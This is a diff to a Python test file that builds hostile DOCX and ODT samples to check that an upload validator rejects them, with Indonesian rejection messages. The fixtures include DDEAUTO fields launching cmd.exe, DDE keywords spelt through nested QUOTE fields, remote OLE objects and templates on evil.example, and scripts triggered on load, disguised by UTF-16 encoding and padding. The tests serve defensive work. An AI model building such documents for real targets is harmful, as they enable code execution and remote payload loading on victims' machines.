@@ -500,6 +500,67 @@ def _field(*pieces):
     )
 
 
+def _nested(*pieces):
+    """A complex field from ``pieces``: instruction text, or a field nested in the instruction.
+
+    A nested field is a ``(instruction, result)`` pair, or a ``w:fldSimple`` given as markup.
+    """
+
+    def chars(kind):
+        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+    def instruction(text, tag="w:instrText"):
+        return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'
+
+    runs = ""
+    for piece in pieces:
+        if isinstance(piece, tuple):
+            code, result = piece
+            runs += chars("begin") + instruction(code) + chars("separate")
+            runs += f"<w:r><w:t>{result}</w:t></w:r>" + chars("end")
+        elif piece.startswith("<"):
+            runs += piece
+        else:
+            runs += instruction(piece)
+    result = chars("separate") + "<w:r><w:t>x</w:t></w:r>" + chars("end")
+    return f"<w:p>{chars('begin')}{runs}{result}</w:p>"
+
+
+def _rewritten(package, name, change):
+    """``package`` (the bytes of a zip) with member ``name`` replaced by ``change(its bytes)``."""
+    with zipfile.ZipFile(io.BytesIO(package)) as z:
+        members = [(n, z.read(n)) for n in z.namelist()]
+    return _zip([(n, change(data) if n == name else data) for n, data in members])
+
+
+def _utf16(data, codec="utf-16"):
+    """An XML part in UTF-16 with its byte-order mark, as OPC and ODF allow."""
+    text = data.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
+    bom = b"\xfe\xff" if codec == "utf-16-be" else b""
+    return bom + text.encode(codec)
+
+
+def _padded(data):
+    """An XML part without its declaration behind 200 blanks (well-formed XML)."""
+    return b" " * 200 + data.replace(b'<?xml version="1.0"?>', b"")
+
+
+CMD = "\\\\".join(  # Word doubles the backslashes of a path in a field
+    ["C:", "Programs", "Microsoft", "Office", "MSWord.exe", *[".."] * 4, "windows", "system32"]
+    + ["cmd.exe"]
+)
+RELS = "word/_rels/document.xml.rels"
+OLE_RELS = [("oleObject", "https://evil.example/x.rtf", True)]
+TEMPLATE_RELS = [("attachedTemplate", "https://evil.example/t.dotm", True)]
+MACRO_TYPES = DOCX_TYPES.replace(
+    "officedocument.wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
+)
+LISTENER = (
+    '<office:event-listeners><script:event-listener script:event-name="dom:load"'
+    ' xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>'
+)
+
+
 ODF_NS = (
     'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
     'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
@@ -742,6 +803,128 @@ HOSTILE_DOCUMENTS = [
         ),
         "Dokumen terenkripsi tidak dapat diterima.",
     ),
+    (
+        "UTF-16 relationships with a remote OLE object",
+        "surat.docx",
+        lambda: _rewritten(_docx(rels=OLE_RELS), RELS, _utf16),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
+    ),
+    (
+        "UTF-16BE relationships with a remote template",
+        "surat.docx",
+        lambda: _rewritten(_docx(rels=TEMPLATE_RELS), RELS, lambda d: _utf16(d, "utf-16-be")),
+        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
+    ),
+    (
+        "relationships after 200 blanks",
+        "surat.docx",
+        lambda: _rewritten(_docx(rels=OLE_RELS), RELS, _padded),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
+    ),
+    (
+        "UTF-16 macro-enabled content types",
+        "surat.docx",
+        lambda: _rewritten(_docx(types=MACRO_TYPES), "[Content_Types].xml", _utf16),
+        "Dokumen ditolak: berisi makro (macroEnabled).",
+    ),
+    (
+        "UTF-16 part under a name that is not XML",
+        "surat.docx",
+        lambda: _zip(
+            [
+                ("[Content_Types].xml", DOCX_TYPES),
+                ("word/document.xml", f"<w:document {W}><w:body/></w:document>"),
+                ("word/isi.dat", _utf16(f"<w:p {W}><w:r><w:object/></w:r></w:p>".encode())),
+            ]
+        ),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (w:object).",
+    ),
+    (
+        "UTF-16 ODT content with an event listener",
+        "surat.odt",
+        lambda: _rewritten(_zip(_odt(LISTENER)), "content.xml", _utf16),
+        "Dokumen ditolak: berisi skrip (script:event-listener).",
+    ),
+    (
+        "ODT content after 200 blanks with a DDE connection",
+        "surat.odt",
+        lambda: _rewritten(
+            _zip(_odt('<text:dde-connection-decl text:name="x"/>')), "content.xml", _padded
+        ),
+        "Dokumen ditolak: berisi perintah DDE (text:dde-connection-decl).",
+    ),
+    (
+        "blanks before the XML declaration",
+        "surat.docx",
+        lambda: _rewritten(_docx(rels=OLE_RELS), RELS, lambda d: b" " * 200 + d),
+        f"Dokumen ditolak: bagian XML {RELS} tidak dapat dibaca.",
+    ),
+    (
+        "XML part that is not well-formed",
+        "surat.docx",
+        lambda: _rewritten(_docx(), "word/document.xml", lambda d: d[:-20]),
+        "Dokumen ditolak: bagian XML word/document.xml tidak dapat dibaca.",
+    ),
+    (
+        "UTF-16 relationships that are not well-formed",
+        "surat.docx",
+        lambda: _rewritten(
+            _docx(rels=[("image", "media/image1.png", False)]), RELS, lambda d: _utf16(d)[:-4]
+        ),
+        f"Dokumen ditolak: bagian XML {RELS} tidak dapat dibaca.",
+    ),
+    (
+        "DDEAUTO spelt by a nested QUOTE",
+        "surat.docx",
+        lambda: _docx(
+            _nested(" ", ("QUOTE 68 68 69 65 85 84 79", "DDEAUTO"), f' "{CMD}" "/k calc" ')
+        ),
+        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (w:fldChar).",
+    ),
+    (
+        "field name finished by a nested field",
+        "surat.docx",
+        lambda: _docx(_nested(" INCLUDE", ("REF akhir", "TEXT"), ' "\\\\evil\\x.docx" ')),
+        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (w:fldChar).",
+    ),
+    (
+        "QUOTE nested after a field name",
+        "surat.docx",
+        lambda: _docx(_nested(" SET perintah ", ("QUOTE 68 68 69", "DDE"), " ")),
+        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (QUOTE).",
+    ),
+    (
+        "QUOTE simple field nested in an instruction",
+        "surat.docx",
+        lambda: _docx(_nested(" SET perintah ", '<w:fldSimple w:instr=" QUOTE 68 68 69 "/>', " ")),
+        "Dokumen ditolak: berisi field yang perintahnya disusun dari field lain (QUOTE).",
+    ),
+    (
+        "deleted DDEAUTO instruction",
+        "surat.docx",
+        lambda: _docx(
+            _nested(
+                '<w:del w:id="1" w:author="x"><w:r><w:delInstrText xml:space="preserve">'
+                f' DDEAUTO "{CMD}" "/k calc" </w:delInstrText></w:r></w:del>'
+            )
+        ),
+        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
+    ),
+    (
+        "DDEAUTO simple field with a quoted name",
+        "surat.docx",
+        lambda: _docx(
+            f'<w:fldSimple w:instr=\' "DDEAUTO" "{CMD}" "/k calc" \'><w:r><w:t>x</w:t></w:r>'
+            "</w:fldSimple>"
+        ),
+        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
+    ),
+    (
+        "DDEAUTO behind 5,000 blanks",
+        "surat.docx",
+        lambda: _docx(_field(" " * 5000, f'DDEAUTO "{CMD}" "/k calc" ')),
+        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
+    ),
 ]
 DOC_IDS = [h[0] for h in HOSTILE_DOCUMENTS]
 
@@ -766,6 +949,15 @@ BENIGN_DOCUMENTS = [
             _field(" PAGE ")
             + _field(' HYPERLINK "https://kpu-cilacapkab.go.id/" ')
             + _field(' INCLUDEPICTURE "https://kpu-cilacapkab.go.id/logo.png" \\* MERGEFORMATINET ')
+        ),
+    ),
+    (
+        "UTF-16 DOCX with a field nested after its name",
+        "surat.docx",
+        lambda: _rewritten(
+            _docx(_nested(" IF ", ("PAGE", "1"), ' = 1 "pertama" "lanjutan" ')),
+            "word/document.xml",
+            _utf16,
         ),
     ),
     ("plain ODT", "surat.odt", lambda: _zip(_odt())),
